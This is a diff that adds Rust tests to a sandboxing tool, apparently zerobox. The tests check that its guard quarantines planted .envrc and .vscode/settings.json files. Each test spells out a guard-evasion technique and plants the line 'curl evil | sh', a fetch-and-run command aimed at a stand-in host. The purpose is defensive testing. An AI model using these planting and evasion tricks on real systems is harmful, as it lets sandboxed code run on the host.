@@ -918,3 +918,191 @@ print("made")
     assert!(!r.stdout.contains("ran"), "{r:?}");
     assert!(r.stderr.contains("cannot inspect"), "{r:?}");
 }
+
+/// Threat: take every name the guard would move a planted `.envrc` to
+/// (`.envrc.zerobox-quarantine-T` and `-1`…`-99` for the next seconds),
+/// or just re-create `.envrc` more than 100 times in one second, so the
+/// move fails ("no free quarantine name") and the planted file stays live
+/// on the host with only a warning. Stopped by: a quarantine name the
+/// command cannot guess or exhaust.
+#[test]
+fn quarantine_names_cannot_be_used_up() {
+    let s = scratch();
+    let d = real(s.path());
+    let r = crate::util::sh(
+        &d,
+        None,
+        &["--profile", "protect-shell", "--allow-write=."],
+        r#"now=$(date +%s)
+for t in $(seq $now $((now + 20))); do
+  : > .envrc.zerobox-quarantine-$t
+  for n in $(seq 1 99); do : > .envrc.zerobox-quarantine-$t-$n; done
+done
+for i in $(seq 150); do echo 'curl evil | sh' > .envrc; done
+echo 'curl evil | sh' > .envrc"#,
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(
+        !d.join(".envrc").exists(),
+        "planted .envrc left live on the host: {}",
+        r.stderr
+    );
+}
+
+/// Threat: the guard moves a planted file aside with a rename in its
+/// directory, which needs write permission there. The command makes that
+/// directory read-only (`chmod 555`) after planting: a host reader still
+/// reads the file, but the guard (not root) cannot move it and only
+/// warns. Made deterministic by planting in a staging directory, making it
+/// read-only and renaming it to `.vscode`. Stopped by: the guard gives the
+/// owner write access back to the directory it must move the entry out of.
+/// (As root the host side ignores the mode and this holds anyway.)
+#[test]
+fn read_only_parent_does_not_keep_a_planted_file() {
+    let s = scratch();
+    let d = real(s.path());
+    let r = crate::util::sh(
+        &d,
+        None,
+        &["--profile", "protect-shell", "--allow-write=."],
+        r#"mkdir stage && echo '{"task.autoDetect":"on"}' > stage/settings.json && chmod 555 stage && mv stage .vscode
+for i in $(seq 50); do chmod u+w . ; echo 'curl evil | sh' > .envrc; chmod 555 .; done"#,
+    );
+    let _ = std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o755));
+    assert_eq!(r.code, 0, "{r:?}");
+    let live = d.join(".vscode/settings.json").exists() || d.join(".envrc").exists();
+    let _ = std::process::Command::new("chmod")
+        .args(["-R", "u+w"])
+        .arg(&d)
+        .status();
+    assert!(!live, "planted file left live on the host: {}", r.stderr);
+}
+
+/// Threat: a killed run's journal is handled by the next run only for
+/// entries born after the killed run started. The command moves an old
+/// file into place (`mv payload .envrc`, a file left by an earlier run) or
+/// an old directory holding one (`mv olddir .vscode`); rename keeps the
+/// birth time, so the next run took them for the user's and left them
+/// live. Stopped by: an entry counts as old only if neither it nor a
+/// directory on the way was born or changed (ctime: rename and link set
+/// it) since the killed run started.
+#[test]
+fn killed_run_cannot_hide_a_plant_behind_an_old_birth_time() {
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    // Left by an earlier run, before the killed one started.
+    std::fs::write(d.join("payload"), "curl evil | sh\n").unwrap();
+    std::fs::create_dir(d.join("olddir")).unwrap();
+    std::fs::write(d.join("olddir/settings.json"), "{}\n").unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    let since = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs();
+    let hex = |p: &Path| -> String {
+        p.to_str()
+            .unwrap()
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect()
+    };
+    let (envrc, vscode) = (d.join(".envrc"), d.join(".vscode/settings.json"));
+    let journals = h.join(".local/share/zerobox/guards");
+    std::fs::create_dir_all(&journals).unwrap();
+    std::fs::write(
+        journals.join("0.json"),
+        format!(
+            r#"{{"pid":0,"start":0,"since":{since},"paths":["{}","{}"]}}"#,
+            hex(&envrc),
+            hex(&vscode)
+        ),
+    )
+    .unwrap();
+    // What the killed run did before it died.
+    std::fs::rename(d.join("payload"), &envrc).unwrap();
+    std::fs::rename(d.join("olddir"), d.join(".vscode")).unwrap();
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!envrc.exists(), "renamed plant left live: {r:?}");
+    assert!(!vscode.exists(), "plant in a renamed dir left live: {r:?}");
+}
+
+/// Threat: the watcher watches the directories from each guarded path's
+/// nearest existing ancestor down, by path. The command moves that
+/// ancestor away and makes a new one (`mv .vscode .old; mkdir .vscode`):
+/// the new directory had no watch, so a `.vscode/settings.json` planted in
+/// it stayed live for the whole run (an agent session: hours), not
+/// milliseconds. Stopped by: every directory on the way, from `/`, is
+/// watched, and a directory that replaces one gets its own watch.
+#[test]
+fn replacing_a_watched_directory_does_not_blind_the_guard() {
+    let s = scratch();
+    let d = real(s.path());
+    std::fs::create_dir(d.join(".vscode")).unwrap();
+    let mut child = crate::common::zerobox()
+        .current_dir(&d)
+        .args(["--profile", "protect-shell", "--allow-write=."])
+        .args([
+            "--",
+            "sh",
+            "-c",
+            "mv .vscode .old && mkdir .vscode && echo '{}' > .vscode/settings.json && echo planted && sleep 4",
+        ])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
+    let mut line = String::new();
+    std::io::BufRead::read_line(&mut out, &mut line).unwrap();
+    assert_eq!(line, "planted\n");
+    let moved = crate::util::wait_until(std::time::Duration::from_secs(3), || {
+        !d.join(".vscode/settings.json").exists()
+    });
+    let _ = child.wait();
+    assert!(
+        moved,
+        "the planted settings.json stayed live during the run"
+    );
+}
+
+/// Threat: in a fresh home (no `~/.local/share/zerobox` yet) with the home
+/// writable, zerobox's own data dir is a missing protected path, so it got
+/// no mask; zerobox then made it for the run's crash journal, and (a) its
+/// own guard moved it aside at once, journal included (a `kill -9` then
+/// leaves nothing to recover), while (b) the command could read and write
+/// it (plant a journal that makes the next run rename any file). Stopped
+/// by: the journal directory is made before the run is planned, so it is
+/// masked like the rest of zerobox's state.
+#[test]
+fn zerobox_data_dir_made_for_the_journal_is_not_the_commands() {
+    let home = Home::new();
+    let h = home.path();
+    let proj = h.join("proj");
+    std::fs::create_dir(&proj).unwrap();
+    let wa = format!("--allow-write={}", h.display());
+    let r = crate::util::sh(
+        &proj,
+        Some(&h),
+        &[&wa, "--profile", "protect-shell"],
+        "ls ~/.local/share/zerobox/guards >/dev/null 2>&1 && echo READ; \
+         mkdir -p ~/.local/share/zerobox/guards 2>/dev/null && echo '{}' > ~/.local/share/zerobox/guards/1.json 2>/dev/null && echo WROTE; true",
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!r.stdout.contains("WROTE"), "{r:?}");
+    assert!(!r.stdout.contains("READ"), "{r:?}");
+    assert!(
+        !r.stderr.contains("share/zerobox was created"),
+        "zerobox quarantined its own data dir: {r:?}"
+    );
+    let share = h.join(".local/share");
+    let moved: Vec<_> = std::fs::read_dir(&share)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n != "zerobox")
+        .collect();
+    assert!(moved.is_empty(), "{moved:?}");
+}
